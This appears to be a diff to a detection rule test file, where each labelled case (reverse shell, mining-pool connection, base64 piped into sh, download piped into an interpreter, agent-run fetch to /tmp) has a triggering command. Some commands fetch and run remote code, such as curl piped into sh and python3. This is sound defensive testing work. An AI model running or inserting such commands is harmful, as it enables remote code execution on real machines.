@@ -2,13 +2,13 @@
 #in shop:1
 /bin/sh -c true
 ## Reverse shell
-#also Connection to a mining pool
+#also Connection to a port of mining pools
 #also Input and output tied to a connection with another machine
 #also Reverse shell by bash's own network
 #also Shell connects to the network
 remote 'true'
 ## Command of a reverse shell
-#also Connection to a mining pool
+#also Connection to a port of mining pools
 #also Identity asked from a service's shell
 #also Input and output tied to a connection with another machine
 #also Reverse shell
@@ -36,30 +36,21 @@ shutil.copy("/bin/true", "/home/ann/x"); fd = os.open("/home/ann/x", os.O_RDONLY
 ## Execution refused in a scratch folder
 echo x > /tmp/x; /tmp/x
 ## Code given to an interpreter in base64
-#also Decoded text given to a shell
 #also Decoded text piped into an interpreter
 sh -c 'echo dHJ1ZQ== | base64 -d | sh'
 ## Keys typed by a program
 #setup mkdir /tmp/dev; mount -t tmpfs dev /tmp/dev; cp -a /dev/null /dev/urandom /tmp/dev; mount --move /tmp/dev /dev; : > /dev/uinput
 python3 -c 'open("/dev/uinput", "r+b")'
 ## Code without a file connects to an address without a name
-#also Code without a file connects to the internet
 python3 -c 'import socket; socket.create_connection(("203.0.113.9", 80), 2)'
-## Code fetched and executed by one line
-#also Code evaluated straight from a download
-#also Code without a file connects to an address without a name
-#also Code without a file connects to the internet
-python3 -c 'import urllib.request as u; exec(u.urlopen("http://203.0.113.9/s").read() and "")'
 ## Decoded text piped into an interpreter
 #also Code given to an interpreter in base64
-#also Decoded text given to a shell
 printf 'dHJ1ZQ==' | base64 -d | sh
 ## Download from an address without a name beside an interpreter
-#also Commands fetched from an unusual place
 #also Download beside an interpreter
 #also Download run without being looked at
-#also Transfer tool given a bare address
-curl -s http://203.0.113.9/x.py | python3 -
+#setup echo '203.0.113.9 mirror.example' >> /etc/hosts
+curl -s http://mirror.example/x.py | python3 -
 ## Download beside an interpreter
 #also Download run without being looked at
 curl -s http://10.9.8.6/x | sh
@@ -126,12 +117,9 @@ echo x > /srv/salt/top.sls
 #setup stubs /usr/bin/ansible
 ansible all -m shell -a id
 ## Program in a scratch folder run by an agent of software distribution
+#also Transfer tool given a bare private address and a scratch folder
 #setup shells /usr/bin/salt-minion
 /usr/bin/salt-minion -c 'curl -s -o /tmp/x http://10.9.8.6/x; :'
-## Program put under a supervisor of processes
-#also Program of a supervisor written
-#setup mkdir -p /etc/supervisor/conf.d
-echo x > /etc/supervisor/conf.d/x.conf
 ## Program in a scratch folder started as a service
 busybox start-stop-daemon -S -x /tmp/x; true
 ## Descriptor of another process taken
